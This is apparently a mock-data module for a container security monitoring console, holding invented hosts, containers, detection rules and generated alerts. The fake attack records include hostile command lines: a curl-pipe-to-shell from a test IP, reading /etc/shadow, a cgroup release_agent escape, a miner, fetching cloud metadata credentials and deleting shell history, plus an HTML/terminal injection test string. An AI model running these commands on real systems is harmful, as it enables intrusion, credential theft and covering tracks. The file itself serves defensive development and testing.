// Made-up hosts, containers, attacks and rules for development of the console.

const hex = (n, seed) => {
  let x = seed * 2654435761;
  let s = '';
  while (s.length < n) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    s += x.toString(16).padStart(8, '0');
  }
  return s.slice(0, n);
};
const time = (ms) => new Date(ms).toISOString();
let seq = 0;
const ulid = (ms) =>
  (
    ms.toString(32).toUpperCase().padStart(10, '0') +
    (++seq).toString(32).toUpperCase().padStart(16, '0')
  ).slice(0, 26);

const images = [
  ['nginx:1.25', 187_654_321, 3],
  ['redis:7-alpine', 41_234_567, 2],
  ['registry.example.com/payments/api:2024.11.3-build.4711', 612_345_678, 1],
  ['registry.example.com/平台/订单服务:生产-3.2', 498_123_456, 1],
  ['postgres:16', 432_000_111, 1],
  ['busybox:latest', 4_261_550, 0],
  [
    'ghcr.io/acme/ml-training-with-a-very-long-repository-name/cuda-runtime:12.4.1-cudnn-devel-ubuntu22.04',
    9_876_543_210,
    1,
  ],
]; // prettier-ignore

export const hostile = '<img src=x onerror=alert(1)>\u202egnp.exe\u0007\u001b[31m red';

const containerNames = [
  ['web-1', 0, 'running', 'nginx -g daemon off;'],
  ['web-2', 0, 'running', 'nginx -g daemon off;'],
  ['payments-api', 2, 'running', '/app/payments --listen :8443 --config /etc/payments/config.yaml'],
  ['订单服务-华东-生产环境', 3, 'running', 'java -Xmx2g -jar /应用/订单服务.jar --环境=生产'],
  ['cache', 1, 'running', 'redis-server *:6379'],
  ['db', 4, 'running', 'postgres'],
  [hostile, 5, 'exited', `sh -c 'echo "${hostile}"'`],
  [
    'ml-training-with-an-unreasonably-long-name-that-somebody-generated-by-a-script-0123456789-abcdefghijklmnopqrstuvwxyz',
    6,
    'paused',
    'python3 train.py --epochs 90',
  ],
  ['web-canary', 0, 'exited', 'nginx -g daemon off;'],
  ['session-store', 1, 'created', 'redis-server'],
]; // prettier-ignore

export const rules = [
  [
    'Read sensitive file in a container',
    'warning',
    '读取敏感文件',
    ['T1003.008', 'T1552.001'],
    'evt.type in (open, openat, openat2) and evt.is_open_read=true and container\n  and fd.name in (sensitive_file_names)\n  and not proc.name in (user_mgmt_binaries)',
    'Sensitive file opened for reading (file=%fd.name user=%user.name command=%proc.cmdline container=%container.name image=%container.image.repository)',
    'A process in a container read a file that holds credentials, such as /etc/shadow.',
    '容器内进程读取了 /etc/shadow 等包含凭证的文件。',
  ],
  [
    'Reverse shell',
    'critical',
    '反弹 Shell',
    ['T1059.004', 'T1095'],
    'evt.type in (dup, dup2, dup3) and fd.num in (0, 1, 2) and fd.type in (ipv4, ipv6)\n  and container and proc.name in (shell_binaries)',
    'Shell with its input on a network connection (connection=%fd.name command=%proc.cmdline parent=%proc.pname container=%container.name)',
    'The standard input or output of a shell was put on a network connection: someone outside drives it.',
    'Shell 的标准输入输出被重定向到网络连接，外部人员可能正在远程操控。',
  ],
  [
    'Write below the release_agent of a cgroup',
    'emergency',
    '写入 cgroup release_agent 逃逸',
    ['T1611'],
    'evt.is_open_write=true and container and fd.name endswith /release_agent',
    'Container escape by release_agent (file=%fd.name command=%proc.cmdline container=%container.name)',
    'The classic escape out of a privileged container.',
    '特权容器的经典逃逸手法。',
  ],
  [
    'Cryptocurrency miner started',
    'alert',
    '启动挖矿程序',
    ['T1496.001'],
    'spawned_process and container and (proc.name in (miner_binaries) or proc.args contains "stratum+tcp")',
    'Miner started (command=%proc.cmdline container=%container.name image=%container.image.repository)',
    'A known miner, or arguments of a mining pool.',
    '已知挖矿程序或矿池参数。',
  ],
  [
    'Executable from memory',
    'critical',
    '无文件执行',
    ['T1620'],
    'spawned_process and proc.is_exe_from_memfd=true',
    'Executable from memory (command=%proc.cmdline exe=%proc.exepath)',
    'A program ran from a memory file and never was on disk.',
    '程序从内存文件执行，从未落盘。',
  ],
  [
    'Package manager in a running container',
    'notice',
    '容器内运行包管理器',
    ['T1105'],
    'spawned_process and container and proc.name in (package_mgmt_binaries)',
    'Package manager (command=%proc.cmdline container=%container.name)',
    'Images should be built, not changed while they run.',
    '镜像应在构建时变更，而非运行时。',
  ],
  [
    'Terminal shell in a container',
    'notice',
    '容器内交互式 Shell',
    ['T1609', 'T1059.004'],
    'spawned_process and container and shell_procs and proc.tty != 0',
    'Shell with a terminal (user=%user.name command=%proc.cmdline container=%container.name)',
    'Someone works in the container by hand.',
    '有人在容器内手动操作。',
  ],
  [
    'Contact the cloud metadata service',
    'error',
    '访问云元数据服务',
    ['T1552.005'],
    'outbound and container and fd.sip = "169.254.169.254"',
    'Metadata service contacted (connection=%fd.name command=%proc.cmdline)',
    'Credentials of the machine can be taken from there.',
    '可从中获取主机凭证。',
  ],
  [
    'Shell history cleared',
    'warning',
    '清除 Shell 历史',
    ['T1070.003'],
    'evt.type in (unlink, unlinkat, truncate) and fd.name endswith _history',
    'History cleared (file=%fd.name command=%proc.cmdline)',
    'Traces are wiped.',
    '痕迹被清除。',
  ],
  [
    'Debug: container started',
    'debug',
    '',
    [],
    'evt.type = container',
    'Container started (name=%container.name)',
    'For tests.',
    '',
  ],
].map(([name, priority, title_zh, techniques, condition, output, desc, desc_zh], i) => ({
  name,
  priority,
  techniques,
  condition,
  output,
  desc,
  ...(title_zh && { title_zh }),
  ...(desc_zh && { desc_zh }),
  ...(i === 1 && {
    advice: 'Freeze the container before anything else; collect evidence; look for the way in.',
    advice_zh: '先冻结容器，收集证据，再查找入侵途径。',
  }),
  source: 'syscall',
  file: i < 7 ? 'rules/skep.yaml' : '/etc/skep/rules.d/local.yaml',
  line: 12 + i * 17,
  enabled: i !== 9,
  tags: ['container', 'mitre_execution', ...techniques],
})); // prettier-ignore

const attacks = [
  {
    rule: 1,
    c: 2,
    evt: 'dup2',
    fd: {
      typechar: '4',
      name: '172.17.0.4:51234->203.0.113.66:4444',
      l4proto: 'tcp',
      lip: '172.17.0.4',
      lport: 51234,
      rip: '203.0.113.66',
      rport: 4444,
      num: 0,
    },
    chain: [
      ['sh', 'sh -i'],
      ['sh', `sh -c curl -s http://203.0.113.66/x.sh | sh`],
      ['payments', '/app/payments --listen :8443 --config /etc/payments/config.yaml'],
      ['tini', '/sbin/tini -- /app/payments'],
    ],
  },
  {
    rule: 0,
    c: 0,
    evt: 'openat',
    fd: { typechar: 'f', name: '/etc/shadow', directory: '/etc', filename: 'shadow', num: 3 },
    chain: [
      ['cat', 'cat /etc/shadow'],
      ['sh', "sh -c 'cat /etc/shadow'"],
      ['nginx', 'nginx: master process nginx -g daemon off;'],
    ],
  },
  {
    rule: 2,
    c: 7,
    evt: 'openat',
    fd: {
      typechar: 'f',
      name: '/sys/fs/cgroup/rdma/release_agent',
      directory: '/sys/fs/cgroup/rdma',
      filename: 'release_agent',
      num: 1,
    },
    chain: [
      ['sh', 'sh -c echo /cmd > /sys/fs/cgroup/rdma/release_agent'],
      ['bash', 'bash'],
      ['python3', 'python3 train.py --epochs 90'],
    ],
  },
  {
    rule: 3,
    c: 3,
    evt: 'execve',
    fd: { typechar: '', num: -1 },
    path: '/tmp/.X11-unix/kworker',
    upper: true,
    chain: [
      [
        'kworker',
        'kworker -o stratum+tcp://pool.example.net:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x --donate-level 1',
      ],
      ['sh', '/bin/sh /tmp/安装.sh'],
      ['java', 'java -Xmx2g -jar /应用/订单服务.jar --环境=生产'],
    ],
  },
  {
    rule: 6,
    c: 4,
    evt: 'execve',
    fd: { typechar: '', num: -1 },
    path: '/bin/sh',
    tty: 34816,
    chain: [
      ['sh', 'sh'],
      ['runc', 'runc init'],
    ],
  },
  {
    rule: 5,
    c: 1,
    evt: 'execve',
    fd: { typechar: '', num: -1 },
    path: '/usr/bin/apt-get',
    chain: [
      ['apt-get', 'apt-get install -y netcat-openbsd'],
      ['bash', 'bash -l'],
      ['nginx', 'nginx: master process nginx -g daemon off;'],
    ],
  },
  {
    rule: 7,
    c: 2,
    evt: 'connect',
    fd: {
      typechar: '4',
      name: '172.17.0.4:40022->169.254.169.254:80',
      l4proto: 'tcp',
      lip: '172.17.0.4',
      lport: 40022,
      rip: '169.254.169.254',
      rport: 80,
      num: 5,
    },
    chain: [
      ['curl', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
      ['sh', 'sh -i'],
      ['payments', '/app/payments --listen :8443'],
    ],
  },
  {
    rule: 4,
    c: undefined,
    evt: 'execveat',
    fd: { typechar: '', num: -1 },
    memfd: true,
    path: '/memfd:x (deleted)',
    chain: [
      ['3', '[kworker/0:1]'],
      ['perl', 'perl -e …'],
      ['sshd', 'sshd: deploy@pts/0'],
      ['systemd', '/sbin/init'],
    ],
  },
  {
    rule: 0,
    c: 6,
    evt: 'openat',
    failed: true,
    fd: { typechar: 'f', name: `/etc/${hostile}`, num: -1 },
    chain: [['sh', `sh -c 'echo "${hostile}"'`]],
  },
  {
    rule: 8,
    c: 0,
    evt: 'unlinkat',
    fd: { typechar: '', num: -1 },
    path: '/root/.bash_history',
    chain: [
      ['rm', 'rm -f /root/.bash_history'],
      ['bash', 'bash'],
    ],
  },
]; // prettier-ignore

export function makeWorld(now = Date.now()) {
  const hosts = [
    {
      id: hex(32, 11),
      name: 'edge-fra-01',
      os: 'Debian GNU/Linux 12 (bookworm)',
      kernel: '6.1.0-28-amd64',
      cpus: 8,
      memory: 33_554_432_000,
      bpf: true,
    },
    {
      id: hex(32, 12),
      name: '生产-华东-节点-02',
      os: 'openEuler 24.03 LTS',
      kernel: '6.6.0-28.0.0.34.oe2403.x86_64',
      cpus: 32,
      memory: 135_000_000_000,
      bpf: true,
    },
    {
      id: hex(32, 13),
      name: 'legacy-build',
      os: 'Ubuntu 20.04.6 LTS',
      kernel: '5.4.0-196-generic',
      cpus: 4,
      memory: 8_123_456_789,
      bpf: false,
      bpf_why_not: 'the kernel has no BTF: /sys/kernel/btf/vmlinux is missing',
    },
  ].map((h, i) => ({
    ...h,
    arch: 'x86_64',
    agent_version: '0.1.0',
    cgroup_mode: i === 2 ? 'v1' : 'v2',
    runtime_version: 'Docker 27.3.1',
    boot_time: time(now - 86400_000 * (9 + i)),
    first_seen: time(now - 86400_000 * 5),
    last_seen: time(now - (i === 2 ? 600_000 : 2000)),
    containers_running: [4, 3, 0][i],
  })); // prettier-ignore

  const imageList = images.map(([name, size, n], i) => ({
    id: `sha256:${hex(64, 200 + i)}`,
    host_id: hosts[i % 2].id,
    tags: i === 0 ? [name, 'nginx:latest', 'nginx:stable-with-a-long-tag-name'] : [name],
    created: time(now - 86400_000 * (3 + i * 11)),
    size,
    os: 'linux',
    arch: 'amd64',
    containers: n,
  })); // prettier-ignore

  const containers = containerNames.map(([name, image, state, command], i) => ({
    id: hex(64, 300 + i),
    host_id: hosts[i % 2].id,
    name,
    image: images[image][0],
    image_id: imageList[image].id,
    image_repository: images[image][0].split(':')[0],
    image_tag: images[image][0].split(':').at(-1),
    runtime: 'docker',
    state,
    command,
    created: time(now - 3600_000 * (1 + i * 7)),
    started: state === 'created' ? undefined : time(now - 3600_000 * (1 + i * 7) + 900),
    ...(state === 'exited' && { finished: time(now - 1200_000) }),
    exit_code: state === 'exited' ? 137 : 0,
    pid: state === 'running' ? 4000 + i * 100 : 0,
    privileged: i === 7,
    host_network: i === 4,
    host_pid: false,
    ip: state === 'running' ? `172.17.0.${i + 2}` : undefined,
    network: 'bridge',
    user: i % 2 ? 'app' : undefined,
    ...(i === 3 && { k8s_pod: '订单服务-7d9c5b6f4-x2k9p', k8s_namespace: '生产' }),
    mounts:
      i % 3 === 0
        ? [
            {
              source: '/var/run/docker.sock',
              dest: '/var/run/docker.sock',
              type: 'bind',
              mode: '',
              rw: true,
            },
            {
              source: '/srv/data/a/very/long/path/that/does/not/want/to/end/and/goes/on',
              dest: '/data',
              type: 'bind',
              mode: 'ro',
              rw: false,
            },
          ]
        : [],
    ports:
      i < 3
        ? [
            { container_port: 80, host_port: 8080 + i, protocol: 'tcp', host_ip: '0.0.0.0' },
            { container_port: 443, host_port: 0, protocol: 'tcp' },
          ]
        : [],
    labels: [
      { key: 'com.example.team', value: i % 2 ? '支付平台' : 'platform' },
      { key: 'org.opencontainers.image.description', value: hostile },
    ],
    cgroup_id: 9000 + i,
    late: false,
  })); // prettier-ignore

  let pid = 5000;
  const process = (c, name, cmdline, parent, start, more = {}) => {
    pid += 3;
    return {
      id: `${hosts[0].id.slice(0, 8)}:${start.toString(16)}:${pid}`,
      host_id: c?.host_id ?? hosts[0].id,
      container_id: c?.id,
      pid,
      ppid: parent?.pid ?? 1,
      vpid: c ? pid - 4990 : pid,
      vppid: 0,
      tid: pid,
      sid: pid,
      pgid: pid,
      name,
      exe: cmdline.split(' ')[0],
      exepath: `/usr/bin/${name}`,
      args: cmdline.split(' ').slice(1).join(' '),
      cmdline,
      cwd: '/',
      env: 'PATH=/usr/bin:/bin PASSWORD=***',
      uid: 0,
      gid: 0,
      euid: 0,
      egid: 0,
      loginuid: 4294967295,
      user: 'root',
      group: 'root',
      cap_permitted: '',
      cap_effective: 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_KILL CAP_NET_BIND_SERVICE',
      cap_inheritable: '',
      tty: 0,
      exe_upper: false,
      exe_memfd: false,
      exe_deleted: false,
      exe_writable: false,
      is_vpgid_leader: false,
      is_sid_leader: false,
      exe_dev: 0,
      exe_ino: 0,
      start_time: time(start),
      exit_code: 0,
      parent_id: parent?.id,
      ...more,
    };
  }; // prettier-ignore

  const processes = [];
  for (const [i, c] of containers.entries()) {
    if (c.state !== 'running') continue;
    const root = process(
      c,
      c.command.split(' ')[0].split('/').pop(),
      c.command,
      undefined,
      now - 3000_000,
    );
    processes.push(root);
    for (let k = 0; k < 3 + (i % 3); k++) {
      const worker = process(
        c,
        root.name,
        `${root.name}: worker process ${k}`,
        root,
        now - 2900_000 + k * 1000,
        { uid: 101, user: 'www-data' },
      );
      processes.push(worker);
      if (k === 0) {
        const sh = process(
          c,
          'sh',
          "sh -c 'while true; do date; sleep 5; done'",
          worker,
          now - 900_000,
        );
        processes.push(
          sh,
          process(c, 'sleep', 'sleep 5', sh, now - 60_000, { exit_time: time(now - 55_000) }),
        );
        processes.push(
          process(
            c,
            'kworker',
            'kworker -o stratum+tcp://pool.example.net:3333',
            sh,
            now - 30_000,
            { exe_upper: true },
          ),
        );
      }
    }
  } // prettier-ignore

  const makeAlert = (i, ms) => {
    const a = attacks[i % attacks.length];
    const rule = rules[a.rule];
    const c = a.c === undefined ? undefined : containers[a.c];
    let parent;
    const chain = [...a.chain].reverse().map(([name, cmdline], k) => {
      parent = process(c, name, cmdline, parent, ms - 9000 + k * 700, {
        ...(k === a.chain.length - 1 && {
          exe_upper: !!a.upper,
          exe_memfd: !!a.memfd,
          tty: a.tty ?? 0,
          ...(a.path && { exepath: a.path }),
        }),
      });
      return parent;
    });
    if (c && i % 2 === 0) {
      const shim = process(
        undefined,
        'containerd-shim',
        `/usr/bin/containerd-shim-runc-v2 -namespace moby -id ${c.id} -address /run/containerd/containerd.sock`,
        undefined,
        ms - 90_000,
      );
      const init = process(undefined, 'systemd', '/sbin/init', undefined, ms - 900_000);
      chain.unshift(init, shim);
    }
    const proc = chain.pop();
    const touched = a.fd.name || a.path;
    return {
      id: ulid(ms),
      host_id: c?.host_id ?? hosts[0].id,
      hostname: hosts.find((h) => h.id === (c?.host_id ?? hosts[0].id)).name,
      time: time(ms),
      rule: rule.name,
      source: 'syscall',
      priority: rule.priority,
      desc: rule.desc,
      tags: rule.tags,
      techniques: rule.techniques,
      output: `${rule.output.split(' (')[0]} (target=${touched} user=root command=${proc.cmdline} container=${c?.name ?? '<NA>'} image=${c?.image ?? '<NA>'})`,
      evt: {
        num: 1000 + i,
        time: time(ms),
        type: a.evt,
        rawres: a.failed ? -13 : 3,
        failed: !!a.failed,
        blocked: false,
        is_open_read: a.evt === 'openat',
        is_open_write: a.rule === 2,
        is_open_create: false,
        is_open_exec: false,
        flags: 0,
        mode: 0,
        path: a.path,
        target_pid: 0,
        arg0: 0,
        arg1: 0,
        arg2: 0,
        arg3: 0,
        lost: 0,
      },
      fd: {
        cport: 0,
        sport: 0,
        lport: 0,
        rport: 0,
        dev: 0,
        ino: 0,
        upper: false,
        deleted: false,
        l4proto: '',
        ...a.fd,
      },
      proc,
      container: c,
      ancestors: chain.reverse(),
      output_fields: [
        { key: 'fd.name', value: touched },
        { key: 'user.name', value: 'root' },
        { key: 'proc.cmdline', value: proc.cmdline },
        ...(c ? [{ key: 'container.name', value: c.name }] : []),
      ],
      lost: i % 7 === 3 ? 12 : 0,
      count: i % 5 === 0 ? 1 + (i % 40) : 1,
      state: i % 6 === 5 ? 'closed' : 'open',
      stored: time(ms + 4),
    };
  }; // prettier-ignore
  const alerts = Array.from({ length: 137 }, (_, i) =>
    makeAlert(i, now - 30_000 - i * i * 4600 - i * 1000),
  );

  const agents = hosts.map((h, i) => ({
    id: h.id,
    version: '0.1.0',
    hostname: h.name,
    started: time(now - 7200_000),
    seen: h.last_seen,
    pid: 812,
    rss: 24_500_000 + i * 3_000_000,
    events_seen: [48_812_345, 9_123_456, 0][i],
    events_lost: [0, 1234, 0][i],
    events_matched: 512,
    alerts: 137,
    outbox_pending: 0,
    rules_loaded: 10,
    cpu_ms: 81_000,
    connected: i !== 2,
    ...(i > 0 && { certificate_expires: time(now + 86400_000 * 397) }),
    ...(i === 2 && { revoked: time(now - 600_000), revoked_by: '王小明' }),
    ...(i === 2 && {
      runtime_error: 'unix:/var/run/docker.sock: connection refused; trying again in 8 s',
    }),
    losses:
      i === 2
        ? []
        : [
            { ring: 'exec', kind: 'execve', lost: 0, seen: 812_345 },
            { ring: 'file', kind: 'openat', lost: i ? 1200 : 0, seen: 40_812_345 },
            { ring: 'file', kind: 'connect', lost: i ? 34 : 0, seen: 812_000 },
          ],
    hooks: [
      {
        name: 'sched_process_exec',
        how: 'tp_btf',
        granted: i !== 2,
        used: i !== 2,
        why: 'no process starts',
      },
      {
        name: 'bprm_check_security',
        how: 'lsm',
        granted: false,
        used: false,
        why: 'no denial before execution: the kernel was started without lsm=bpf',
      },
      {
        name: 'sys_exit_openat',
        how: 'tracepoint',
        granted: true,
        used: true,
        why: 'no file opens',
      },
      { name: 'inet_csk_accept', how: 'fentry', granted: true, used: false, why: '' },
    ],
  })); // prettier-ignore

  const users = [
    {
      id: 'u1',
      name: 'admin',
      role: 'admin',
      created: time(now - 86400_000 * 5),
      last_login: time(now - 60_000),
      disabled: false,
      must_change: false,
    },
    {
      id: 'u2',
      name: '王小明',
      role: 'operator',
      created: time(now - 86400_000 * 3),
      last_login: time(now - 7200_000),
      disabled: false,
      must_change: false,
    },
    {
      id: 'u3',
      name: hostile,
      role: 'viewer',
      created: time(now - 86400_000),
      disabled: true,
      must_change: true,
    },
  ]; // prettier-ignore
  const tokens = [
    {
      id: 't1',
      name: 'CI pipeline',
      user_id: 'u1',
      role: 'viewer',
      created: time(now - 86400_000),
      expires: time(now + 86400_000 * 29),
      last_used: time(now - 300_000),
    },
    {
      id: 't2',
      name: '报表导出',
      user_id: 'u1',
      role: 'viewer',
      created: time(now - 86400_000 * 40),
    },
  ]; // prettier-ignore
  const join_tokens = [
    {
      id: 'join-5f2c8a1e9b3d7046',
      name: 'all nodes of the shop cluster',
      created: time(now - 3600_000),
      created_by: 'admin',
      expires: time(now + 86400_000 * 6),
      max_uses: 0,
      uses: 41,
      last_used: time(now - 120_000),
      last_agent: 'h2',
    },
    {
      id: 'join-00c1b2a39485d6e7',
      created: time(now - 7200_000),
      created_by: '王小明',
      expires: time(now + 1800_000),
      max_uses: 1,
      uses: 1,
      last_used: time(now - 7100_000),
    },
    {
      id: 'join-77aa10b2c3d4e5f6',
      name: hostile,
      created: time(now - 86400_000),
      created_by: 'admin',
      expires: time(now + 86400_000),
      max_uses: 5,
      uses: 2,
      revoked: time(now - 3000_000),
      revoked_by: 'admin',
    },
  ]; // prettier-ignore
  const audit = Array.from({ length: 64 }, (_, i) => ({
    id: `a${i}`,
    time: time(now - i * 733_000),
    user: ['admin', '王小明', 'admin'][i % 3],
    action: ['session.create', 'alert.close', 'user.update', 'session.refused'][i % 4],
    target: ['', '01JDB7QK5T9Y5W1S3M3R3YV7QX', 'u2', hostile][i % 4],
    detail: ['', 'state open → closed', 'role viewer → operator', 'wrong password'][i % 4],
    ip: i % 2 ? '192.0.2.17' : '2001:db8::17',
    ok: i % 4 !== 3,
  })); // prettier-ignore

  return {
    hosts,
    images: imageList,
    containers,
    processes,
    alerts,
    agents,
    users,
    tokens,
    join_tokens,
    audit,
    makeAlert,
    process,
    time,
  }; // prettier-ignore
}
